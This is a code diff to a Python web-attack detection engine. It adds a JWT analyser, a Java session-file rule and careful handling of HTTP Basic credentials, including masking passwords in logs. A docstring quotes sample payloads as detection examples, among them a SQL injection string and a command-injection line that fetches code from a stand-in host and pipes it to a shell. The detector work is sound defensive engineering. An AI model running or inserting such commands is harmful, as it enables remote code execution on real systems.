@@ -14,8 +14,8 @@ from typing import TYPE_CHECKING, Any, Callable
 import hyperscan
 
 from core.events import Hit
-from sensor.detect import (code, crlf, dtd, ldapi, mail_injection, nosqli, protocol, ptrav, rce, rfi, scanner, sqli,
-                           ssi, ssrf, ssti, xss, xxe)
+from sensor.detect import (code, crlf, dtd, jwt, ldapi, mail_injection, nosqli, protocol, ptrav, rce, rfi, scanner,
+                           sqli, ssi, ssrf, ssti, xss, xxe)
 from sensor.detect.base import Finding
 from sensor.points import Limits, Point, PointMemo, extract_all, graphql
 from sensor.points.decoders import percent_decode
@@ -26,7 +26,7 @@ if TYPE_CHECKING:
 THRESHOLD = 0.5          # a hit with score >= THRESHOLD makes the transaction an attack
 REPORT_FLOOR = 0.3       # weaker findings are dropped rather than reported
 _FLAGS = hyperscan.HS_FLAG_CASELESS | hyperscan.HS_FLAG_DOTALL | hyperscan.HS_FLAG_SINGLEMATCH | hyperscan.HS_FLAG_ALLOWEMPTY
-_ANALYSERS = (sqli, xss, rce, ptrav, rfi, ssrf, dtd)
+_ANALYSERS = (sqli, xss, rce, ptrav, rfi, ssrf, dtd, jwt)
 _RULESETS = (code, ssti, ssi, xxe, crlf, mail_injection, ldapi, nosqli, scanner)
 # Types that make sense only in some places: URLs in Referer/Origin are normal, scanner names matter in headers.
 # rfi/ssrf never count in URL or client-IP headers, and in other headers only from _HEADER_URL_FLOOR up.
@@ -49,7 +49,7 @@ _RULE_ONLY_IN = {"scanner:user_agent": ("header",), "scanner:probe_path": ("head
 # Rules about parameter names (`password[]=x` turns the field into an array): a value spelled the same is a word.
 _KEY_ONLY = {"nosqli:array_credential"}
 # Rules about a value under one parameter name only (a method override naming `__construct`).
-_RULE_ONLY_KEYS = {"php:magic_method_override": frozenset(("_method",))}
+_RULE_ONLY_KEYS = {"php:magic_method_override": frozenset(("_method",)), "java:session_file": frozenset(("jsessionid",))}
 # Findings that read a value line by line (a command per line, a mail protocol command per line): a GraphQL document
 # under `query` has a field per line (`id`, `login`), which is no command.
 _LINE_TYPES = {"rce", "mail_injection"}
@@ -262,9 +262,13 @@ class Engine:
             found = self._findings(p, value, host)
         if one_word_agent:
             found = tuple(f for f in found if f.type == "scanner")
+        if p.path[2:3] == ["basic"]:  # ["header", "AUTHORIZATION", "basic", "username" | "password", decoders...]
+            found = _credential(found, value, p.path[3])
         if not found:
             return []
         shown = value[:256]
+        if p.path[2:4] == ["basic", "password"] and all(f.score < THRESHOLD for f in found):
+            shown = f"<password, {len(value)} characters>"  # a reported, not blocked, finding keeps a password out of logs
         if not shown.isascii():  # lone surrogates (undecodable bytes) must not reach JSON encoders
             shown = shown.encode("utf-8", "replace").decode("utf-8")
         return [Hit(type=f.type, point=list(p.path), value=shown, rule=f.rule, score=round(f.score, 3)) for f in found]
@@ -308,6 +312,10 @@ class Engine:
             only = _RULE_ONLY_IN.get(f.rule)
             if only is not None and kind not in only or f.rule in _KEY_ONLY and p.path[-1:] != ["#key"]:
                 return
+            if f.rule == "sqli:bare_operator" and not sqli.operator_counts(f.rule, p.path, value):
+                return  # `filter[x][condition][operator]=>=`: a condition builder's operator field, see sqli.operator_counts
+            if f.type == "nosqli" and not nosqli.counts(f.rule, p.path, value):
+                return  # an operator inside a query-builder filter (`filters[slug][$in][0]=`), see nosqli.counts
             keys = _RULE_ONLY_KEYS.get(f.rule)
             if keys is not None and not (p.path and isinstance(p.path[-1], str) and p.path[-1].lower() in keys):
                 return
@@ -374,6 +382,22 @@ class Engine:
                 self._acache.clear()
             self._acache[key] = found
         return found
+
+
+def _credential(found: tuple[Finding, ...], value: str, field: Any) -> tuple[Finding, ...]:
+    """Findings on a decoded HTTP Basic user name or password (sensor/points/headers.py). Tool names are names people
+    have (`vega`, `medusa`); a password is random text by design, where quotes, `;`, `|`, backticks and `$` fall into
+    injection shapes by chance (about 3 in 100 random 8-20 character passwords drawn from all symbols), so on a password
+    only a near-certain finding on a value of three words or more (`' or 1=1--`, `;curl http://x/y|sh;echo '`) counts
+    as an attack; the rest are reported."""
+    out = []
+    for f in found:
+        if f.rule == "scanner:user_agent":
+            continue
+        if field == "password" and f.score >= THRESHOLD and not (f.score >= 0.85 and len(value.split()) >= 3):
+            f = f._replace(score=0.45)
+        out.append(f)
+    return tuple(out)
 
 
 DetectorCallable = Callable[[Any], list[Hit]]
